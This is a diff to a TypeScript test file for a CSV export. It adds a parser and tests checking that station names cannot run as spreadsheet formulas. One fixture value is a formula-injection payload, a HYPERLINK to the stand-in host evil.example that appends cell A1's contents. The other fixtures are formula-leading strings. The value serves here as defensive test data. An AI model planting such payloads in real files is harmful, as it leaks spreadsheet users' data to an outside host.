@@ -1,4 +1,4 @@
-import { csvCell, ExportWriter, exportFileName, exportRefusal, LocalClock, offsetText } from './export-format.js';
+import { CSV_COLUMNS, csvCell, ExportWriter, exportFileName, exportRefusal, LocalClock, offsetText } from './export-format.js';
 
 describe('export format', () => {
   it.each([
@@ -77,5 +77,71 @@ describe('export format', () => {
     expect(
       exportFileName('csv', [7], Date.parse('2025-06-01T22:00:00Z'), Date.parse('2025-06-02T22:00:00Z'), 'Europe/Madrid'),
     ).toBe('groundtruth-station-7-2025-06-02-to-2025-06-02.csv');
+  });
+});
+
+/** Splits CSV text into rows of cells as RFC 4180 (and a spreadsheet opening the file) does. */
+const parseCsv = (text: string): string[][] => {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"' && cell === '') quoted = true;
+    else if (c === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      i++;
+    } else cell += c;
+  }
+  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
+  return rows;
+};
+
+describe('a CSV export opened in a spreadsheet', () => {
+  const evil = 'Pier 4,=HYPERLINK("http://evil.example/?"&A1,"Click") "quoted", +1, -2, @SUM(A1), \tx';
+  const sut = new ExportWriter({
+    format: 'csv',
+    stations: [
+      { id: 7, name: evil },
+      { id: 8, name: '=1+1' },
+    ],
+    sensors: [70, 999],
+    start: 0,
+    end: 86_400_000,
+    tz: 'UTC',
+    createdAt: 0,
+  });
+  const text =
+    sut.head() +
+    sut.line({ stationId: 7, moduleId: 1, sensorId: 70, time: 0, value: -1 }) +
+    sut.line({ stationId: 8, moduleId: 1, sensorId: 70, time: 60_000, value: 2 });
+  const rows = parseCsv(text);
+
+  it('has no cell a spreadsheet would run as a formula, in the # header lines as in the data', () => {
+    // Numbers and UTC offsets (-1, +00:00) are the product's own values, which a spreadsheet reads as values.
+    const ours = /^-?\d+(\.\d+)?$|^[+-]\d{2}:\d{2}$/;
+    const formulas = rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !ours.test(c));
+    expect(formulas).toEqual([]);
+  });
+
+  it('keeps every # line a comment line (first cell starts with #) and the station names whole in their own cell', () => {
+    const header = rows.filter((r) => r[0]!.startsWith('#'));
+    expect(header.length).toBeGreaterThan(10);
+    expect(rows.filter((r) => !r[0]!.startsWith('#'))[0]).toEqual([...CSV_COLUMNS]);
+    expect(header).toContainEqual(['# station 7:', evil]);
+    expect(header).toContainEqual(['# station 8:', "'=1+1"]);
   });
 });
